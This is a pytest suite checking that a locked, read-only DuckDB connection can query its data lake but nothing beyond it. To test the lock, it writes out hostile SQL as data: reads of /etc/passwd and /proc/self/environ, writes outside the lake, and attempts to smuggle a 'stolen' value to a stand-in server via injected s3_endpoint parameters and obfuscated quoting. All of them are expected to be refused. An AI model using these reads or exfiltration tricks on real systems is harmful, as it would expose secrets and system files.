"""A connection that is locked to its lake: it answers every view, and reaches nothing else, also without ``read_only.query``."""

import socket

import duckdb
import pandas as pd
import pytest

from ser_tasks.lake import catalog, read_only, sql_views
from ser_tasks.monitoring import alert_rules, alerts
from ser_tasks.query import session
from ser_tasks.settings import Settings
from tests.factories.lakes import write_good_lake
from tests.support.s3 import upload

REFUSED = (duckdb.PermissionException, duckdb.InvalidInputException, duckdb.CatalogException, duckdb.BinderException)
"""What DuckDB raises for what a locked connection may not do. An IOException, such as for a missing file, would not prove it."""

CHANGES = (
    "INSTALL spatial",
    "LOAD spatial",
    "FORCE INSTALL httpfs FROM community",
    "SET enable_external_access = true",
    "SET allowed_directories = ['/']",
    "SET lock_configuration = false",
    "RESET lock_configuration",
    "RESET GLOBAL allowed_directories",
    "SET threads = 1",
    "SET python_enable_replacements = true",
    "SET extension_directory = '/tmp'",
    "SET s3_endpoint = 'localhost:1'",
    "PRAGMA profiling_output = '/tmp/profile'",
    "SELECT getenv('HOME')",
    "FROM lent_frame",
)
"""Statements that a locked connection refuses, whatever the lake is."""

OUTSIDE = (
    "FROM read_text('/etc/passwd')",
    "FROM '/etc/passwd'",
    "FROM read_csv('/proc/self/environ')",
    "FROM read_blob('file:///etc/passwd')",
    "FROM glob('/etc/*')",
    "FROM glob('*')",
    "FROM sniff_csv('{outside}/other.csv')",
    "FROM read_text('{outside}/other.csv')",
    "FROM parquet_metadata('{outside}/other.parquet')",
    "COPY (SELECT 1) TO '{outside}/written.csv'",
    "COPY (SELECT 1) TO '{outside}/written.parquet'",
    "EXPORT DATABASE '{outside}/exported'",
    "IMPORT DATABASE '{outside}'",
    "ATTACH '{outside}/other.duckdb'",
    "ATTACH '{outside}/new.duckdb' AS new",
)
"""Statements that reach a folder beside the lake, or further away."""


def locked(lake: str) -> duckdb.DuckDBPyConnection:
    connection = catalog.connect(lake)
    read_only.lock(connection, lake)
    return connection


@pytest.fixture
def outside(tmp_path):
    """A folder beside the lake, whose name begins as the lake's does, with files that may not be read."""
    folder = tmp_path / "lake-of-others"
    folder.mkdir()
    (folder / "other.csv").write_text("secret\n1\n")
    with duckdb.connect(folder / "other.duckdb") as connection:
        connection.execute(f"COPY (SELECT 1 AS secret) TO '{folder / 'other.parquet'}'")
    return folder


def assert_locked(connection: duckdb.DuckDBPyConnection, statements: list[str]) -> None:
    lent_frame = pd.DataFrame({"a": [1]})
    assert len(lent_frame) == 1
    for each in (connection, connection.cursor()):
        for statement in statements:
            with pytest.raises(REFUSED):
                pytest.fail(f"{statement}: {each.execute(statement).fetchall()}")


def test_a_locked_connection_reaches_nothing_outside_a_local_lake(tmp_path, outside):
    lake = tmp_path / "lake"
    write_good_lake(str(lake))
    (lake / "link").symlink_to("/etc")
    through = [
        f"FROM read_text('{lake}/../lake-of-others/other.csv')",
        f"FROM read_text('{lake}/link/passwd')",
        "FROM read_text('other.csv')",
    ]
    before = sorted(outside.iterdir())
    with locked(str(lake)) as connection:
        assert_locked(connection, [*CHANGES, *(each.format(outside=outside) for each in OUTSIDE), *through])
        with pytest.raises(duckdb.Error):
            connection.execute("CREATE PERSISTENT SECRET other (TYPE s3, KEY_ID 'a', SECRET 'b')")
    assert sorted(outside.iterdir()) == before


def test_a_locked_connection_answers_every_view(tmp_path):
    lake = str(tmp_path / "lake")
    write_good_lake(lake)
    with locked(lake) as connection:
        for view in sql_views.all_views():
            connection.execute(f"SELECT count(*) FROM {view.name}").fetchall()
        assert connection.cursor().execute("SELECT count(*) FROM segments").fetchall() == [(7,)]
        connection.execute("SET VARIABLE as_of = '2020-01-01'")
        assert connection.execute("SELECT count(*) FROM outcomes").fetchall() == [(0,)]


@pytest.mark.parametrize("lake", ["lake", "./lake", "link", "it's a lake"])
def test_a_lake_may_have_any_address(tmp_path, monkeypatch, lake):
    write_good_lake(str(tmp_path / ("lake" if lake in ("link", "./lake") else lake)))
    (tmp_path / "link").symlink_to(tmp_path / "lake")
    monkeypatch.chdir(tmp_path)
    with locked(lake) as connection:
        assert connection.execute("SELECT count(*) FROM segments").fetchall() == [(7,)]


def test_a_locked_connection_reaches_nothing_outside_a_lake_on_s3(s3, tmp_path, outside):
    bucket, others = s3.bucket("lake"), s3.bucket("other")
    write_good_lake(str(tmp_path / "lake"))
    upload(s3, tmp_path / "lake", bucket, "night/emotions/")
    for place, key in ((bucket, "night/emotions-of-others/other.parquet"), (bucket, "other.parquet"), (others, "other.parquet")):
        s3.client.upload_file(str(outside / "other.parquet"), place, key)
    lake = f"s3://{bucket}/night/emotions"
    neighbours = [f"s3://{bucket}/night/emotions-of-others/other.parquet", f"s3://{bucket}/other.parquet", f"s3://{others}/other.parquet"]
    remote = [f"FROM '{each}'" for each in (*neighbours, f"s3://{bucket}/*.parquet")]
    remote += [f"COPY (SELECT 1) TO 's3://{bucket}/written.csv'", f"FROM read_text('{s3.endpoint_url}/')", "FROM 'hf://datasets/a/b/c.csv'"]
    remote += [f"ATTACH 's3://{bucket}/other.duckdb' AS remote"]
    with catalog.connect(lake) as connection:
        assert connection.execute(f"FROM '{neighbours[0]}'").fetchall() == [(1,)]  # reached until the connection is locked
        read_only.lock(connection, lake)
        assert_locked(connection, [*CHANGES, *(each.format(outside=outside) for each in OUTSIDE), *remote])
        with pytest.raises(duckdb.HTTPException):
            connection.execute(f"FROM '{lake}/../emotions-of-others/other.parquet'")
        for view in sql_views.all_views():
            connection.execute(f"SELECT count(*) FROM {view.name}").fetchall()
        assert connection.execute("SELECT count(*) FROM segments").fetchall() == [(7,)]
        assert s3.secret_key not in str(connection.execute("FROM duckdb_secrets()").fetchall())


def test_locked_sql_sends_nothing_to_another_server(s3, tmp_path):
    """Its key would carry what was read, and ``?s3_endpoint=`` the address, behind a name that begins as the lake's."""
    bucket = s3.bucket("lake")
    write_good_lake(str(tmp_path / "lake"))
    upload(s3, tmp_path / "lake", bucket, "emotions/")
    lake = f"s3://{bucket}/emotions"
    with socket.create_server(("127.0.0.1", 0)) as other, locked(lake) as connection:
        other.settimeout(0.2)
        there = f"?s3_endpoint=127.0.0.1:{other.getsockname()[1]}&s3_use_ssl=false"
        for sql in (
            f"SET VARIABLE stolen = 'a'; FROM read_text('{lake}/' || getvariable('stolen') || '{there}')",
            f"FROM READ_PARQUET ('{lake}/a.parquet{there}')",
            f"FROM \"read_csv_auto\" /* */ ('{lake}/a.csv{there}')",
            f"FROM main.glob('{lake}/*{there}')",
            f"SELECT * FROM outcomes, '{lake}/a.parquet{there}'",
            f'FROM "{lake}/a.parquet{there}"',
            f"FROM E'{lake.replace('/', chr(92) + 'x2f')}/a.parquet{there}'",
            f"WITH w AS (FROM outcomes WHERE call_id IN (FROM $${lake}/a.csv{there}$$)) FROM w",
            f"EXPLAIN ANALYZE FROM '{lake}/a.csv{there}'",
            f"DESCRIBE '{lake}/a.csv{there}'",
            f"SET VARIABLE read = (SELECT any_value(a) FROM '{lake}/a.csv{there}')",
            f"-- a comment\nset variable \"a b\" TO (SELECT any_value(a) FROM '{lake}/a.csv{there}')",
            f"SUMMARIZE '{lake}/a.csv{there}'",
            f"SELECT (SELECT max(a) FROM outcomes SEMI JOIN '{lake}/a.csv{there}' USING (a)) FROM call_emotions, LATERAL (FROM range(3))",
            f"FROM query_table('{lake}/a.csv{there}')",
        ):
            with pytest.raises(PermissionError, match="not allowed here"):
                read_only.statements(connection, sql)
        with pytest.raises(TimeoutError):
            other.accept()


def test_locked_sql_may_use_what_reads_no_file(tmp_path):
    lake = str(tmp_path / "lake")
    write_good_lake(lake)
    with locked(lake) as connection:
        connection.execute("CREATE TEMP TABLE given AS SELECT 1 AS one")
        for sql in (
            "SELECT count(*) FROM main.segments AS s JOIN call_emotions USING (recording_id), given",
            "WITH a AS (FROM outcomes) SELECT count(*) FROM a, range(3), unnest([1, 2])",
            "SUMMARIZE call_emotions",
            "DESCRIBE segments",
            "SHOW TABLES",
            "SELECT 'a/b.csv' AS \"a/b\", glob_of_a_name FROM (SELECT 1 AS glob_of_a_name)",
            "FROM calls_by_queue(false)",
            "FROM parts.outcomes",
            "FROM duckdb_columns() LIMIT 1",
            "EXPLAIN SELECT 1",
            "FROM outcomes WHERE day = getvariable('day') OR true",
        ):
            assert read_only.query(connection, sql).num_rows > 0, sql
        with pytest.raises(duckdb.CatalogException):
            read_only.query(connection, "FROM nowhere")


def test_rules_of_others_read_nothing_but_the_lake(tmp_path, outside):
    lake = str(tmp_path / "lake")
    write_good_lake(lake)
    rules = tmp_path / "rules.yaml"
    rules.write_text(
        "to: [webhook]\nrules:\n"
        f"  - {{name: theft, severity: info, message: '{{content}}', sql: \"SELECT content FROM read_text('{outside}/other.csv')\"}}\n"
        "  - {name: calls, severity: info, message: '{n} calls, {free_bytes}', sql: 'SELECT count(*) AS n, any_value(free_bytes) AS "
        "free_bytes FROM call_emotions, disks'}\n"
    )
    found = alerts.evaluate(lake, alert_rules.load(rules), Settings())
    assert [alert.rule for alert in found.alerts] == ["calls"]
    assert len(found.errors) == 1 and "rule theft" in found.errors[0] and "read_text is not allowed here" in found.errors[0]


def test_a_file_of_sql_is_locked_unless_it_is_trusted(tmp_path, outside, capsys):
    lake = str(tmp_path / "lake")
    write_good_lake(lake)
    file, reading = tmp_path / "lent.sql", f"SELECT secret + 41 AS secret FROM '{outside}/other.csv'"
    file.write_text(reading)
    for options in ({"file": file}, {"query": reading, "locked": True}):
        with pytest.raises(PermissionError, match="--unlocked"):
            session.run(lake, **options)
    for options in ({"file": file, "locked": False}, {"query": reading}):
        capsys.readouterr()
        session.run(lake, **options, format="csv")
        assert capsys.readouterr().out == "secret\n42\n"
    file.write_text("SET VARIABLE as_of = '2020-01-01'; SELECT count(*) AS calls FROM call_emotions")
    session.run(lake, file=file)
    assert "0" in capsys.readouterr().out


def test_a_locked_query_may_be_larger_than_memory(tmp_path, monkeypatch):
    """Rows that DuckDB spills go to its own folder, which a lock leaves it."""
    lake = str(tmp_path / "lake")
    write_good_lake(lake)
    monkeypatch.chdir(tmp_path)
    with catalog.connect(lake) as connection:
        connection.execute("SET memory_limit = '60MB'")
        read_only.lock(connection, lake)
        sql = "SELECT count(*) FROM (SELECT range AS n, hash(range)::VARCHAR AS text FROM range(2_000_000) ORDER BY text) WHERE n >= 0"
        assert connection.execute(sql).fetchall() == [(2_000_000,)]
